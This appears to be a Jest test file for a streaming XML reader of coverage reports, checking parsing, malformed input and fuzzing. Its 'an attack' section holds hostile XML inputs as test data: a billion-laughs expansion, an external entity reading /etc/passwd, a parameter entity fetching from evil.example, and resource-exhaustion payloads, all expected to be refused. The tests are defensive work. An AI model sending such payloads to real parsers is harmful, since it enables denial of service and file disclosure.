import { describe, expect, test } from '@jest/globals';
import { Unreadable } from '../../src/formats/unreadable.js';
import { readXml } from '../../src/formats/xml.js';
import { createRandom, inPieces } from './streams.js';

async function events(xml: string | Uint8Array, size?: number): Promise<readonly string[]> {
  const seen: string[] = [];
  await readXml('a.xml', inPieces(xml, size), {
    open: (name, attributes, depth) => seen.push(`<${name} ${JSON.stringify(attributes)} ${depth}`),
    close: (name, depth) => seen.push(`>${name} ${depth}`),
    text: (text) => {
      if (text.trim() !== '') seen.push(text.trim());
    },
  });
  return seen;
}

async function refusal(xml: string, size?: number): Promise<string> {
  const caught = await events(xml, size).then(
    () => null,
    (error) => error,
  );
  expect(caught).toBeInstanceOf(Unreadable);
  return (caught as Unreadable).message;
}

describe('an XML file', () => {
  test('is read piece by piece', async () => {
    const xml =
      '<?xml version="1.0"?>\n<a b="1 &lt; 2 &amp; &#233;&#x20AC;"><c/>tea &gt; cof<![CDATA[<fee>]]></a>\n';
    const expected = ['<a {"b":"1 < 2 & é€"} 1', '<c {} 2', '>c 2', 'tea > cof', '<fee>', '>a 1'];
    expect(await events(xml, 1)).toEqual(expected);
    expect(await events(xml, 1000)).toEqual(expected);
  });

  test.each([
    ['JaCoCo', '<!DOCTYPE report PUBLIC "-//JACOCO//DTD Report 1.1//EN" "report.dtd">'],
    ['Cobertura', '<!DOCTYPE coverage SYSTEM "http://cobertura.sourceforge.net/xml/coverage-04.dtd">'],
  ])('with the document type that %s writes is read, and nothing is fetched for it', async (_, doctype) => {
    expect(await events(`<?xml version="1.0"?>${doctype}<a/>`)).toEqual(['<a {} 1', '>a 1']);
  });

  test('with a byte order mark is read, in UTF-8 and UTF-16', async () => {
    expect(await events('\uFEFF<a b="é"/>', 1)).toEqual(['<a {"b":"é"} 1', '>a 1']);
    expect(await events(Buffer.from('\uFEFF<a b="é"/>', 'utf16le'), 1)).toEqual(['<a {"b":"é"} 1', '>a 1']);
  });

  test('names that a program uses for itself are only names', async () => {
    const [opened] = await events('<a __proto__="x" constructor="y"/>');
    expect(opened).toContain('"constructor":"y"');
    expect(({} as Record<string, unknown>).x).toBeUndefined();
  });
});

describe('an attack', () => {
  const LAUGHS = `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l "lol">${Array.from(
    { length: 9 },
    (_, i) => `<!ENTITY l${i + 1} "${`&l${i === 0 ? '' : i};`.repeat(10)}">`,
  ).join('')}]><a>&l9;</a>`;

  test.each([
    ['of a billion laughs', LAUGHS, /line 1: a document type that declares something/],
    [
      'through a file',
      '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
      /declares something/,
    ],
    [
      'through a parameter',
      '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/"> %p;]><a/>',
      /declares something/,
    ],
    ['with an entity nobody declared', '<a>&x;</a>', /Invalid character entity/],
    ['with an attribute list', '<!DOCTYPE a [<!ATTLIST a b CDATA "x">]><a/>', /declares something/],
    ['with deep nesting', '<a>'.repeat(100_000), /nested more than 256 deep/],
    [
      'with many attributes',
      `<a ${Array.from({ length: 300 }, (_, i) => `a${i}="1"`).join(' ')}/>`,
      /more than 256 attributes/,
    ],
    ['with an attribute without end', `<a b="${'x'.repeat(3_000_000)}"/>`, /Max buffer length exceeded/],
    ['with a comment without end', `<a><!--${'x'.repeat(3_000_000)}--></a>`, /Max buffer length exceeded/],
    [
      'with a document type without end',
      `<!DOCTYPE a ${'x'.repeat(3_000_000)}><a/>`,
      /Max buffer length exceeded/,
    ],
  ])('%s is refused', async (_, xml, message) => {
    expect(await refusal(xml, 64 * 1024)).toMatch(message);
  });

  test('of ten million characters of text needs no memory for them', async () => {
    let longest = 0;
    await readXml('a.xml', inPieces(`<a>${'x'.repeat(10_000_000)}</a>`, 64 * 1024), {
      open: () => undefined,
      close: () => undefined,
      text: (text) => {
        longest = Math.max(longest, text.length);
      },
    });
    expect(longest).toBeLessThan(2_000_000);
  });
});

describe('damage', () => {
  test.each([
    ['nothing', '', 'a.xml, line 1: there is no element in it'],
    ['no element', '<?xml version="1.0"?>\n', 'a.xml, line 2: there is no element in it'],
    ['cut short', '<a>\n<b>', 'a.xml, line 2: Unclosed root tag'],
    ['cut in a tag', '<a><b c="', 'a.xml, line 1: Unclosed root tag'],
    ['wrong order', '<a><b></a></b>', 'a.xml, line 1: Unexpected close tag'],
    ['two roots', '<a/><b/>', 'a.xml, line 1: it has a second root element'],
    ['the same attribute twice', '<a b="1" b="2"/>', null],
    ['no XML', 'TN:\nSF:a', 'a.xml, line 1: Non-whitespace before first tag.'],
  ])('%s is said with its line, or does no harm', async (_, xml, message) => {
    if (message === null) expect(await events(xml)).toHaveLength(2);
    else expect(await refusal(xml)).toBe(message);
  });

  test('anywhere never hangs, and never throws anything but Unreadable', async () => {
    const random = createRandom(5);
    const whole =
      '<?xml version="1.0"?><!DOCTYPE a SYSTEM "x"><a b="1"><!-- c --><d>text &amp; <![CDATA[x]]></d></a>';
    let refused = 0;
    for (let round = 0; round < 1000; round += 1) {
      const bytes = Buffer.from(whole);
      bytes[Math.floor(random() * bytes.length)] = Math.floor(random() * 256);
      const cut = round % 4 === 0 ? bytes.subarray(0, Math.floor(random() * bytes.length)) : bytes;
      const result = await events(cut, 1 + (round % 9)).catch((error: unknown) => error);
      if (result instanceof Unreadable) refused += 1;
      else expect(Array.isArray(result)).toBe(true);
    }
    expect(refused).toBeGreaterThan(100);
  });
});
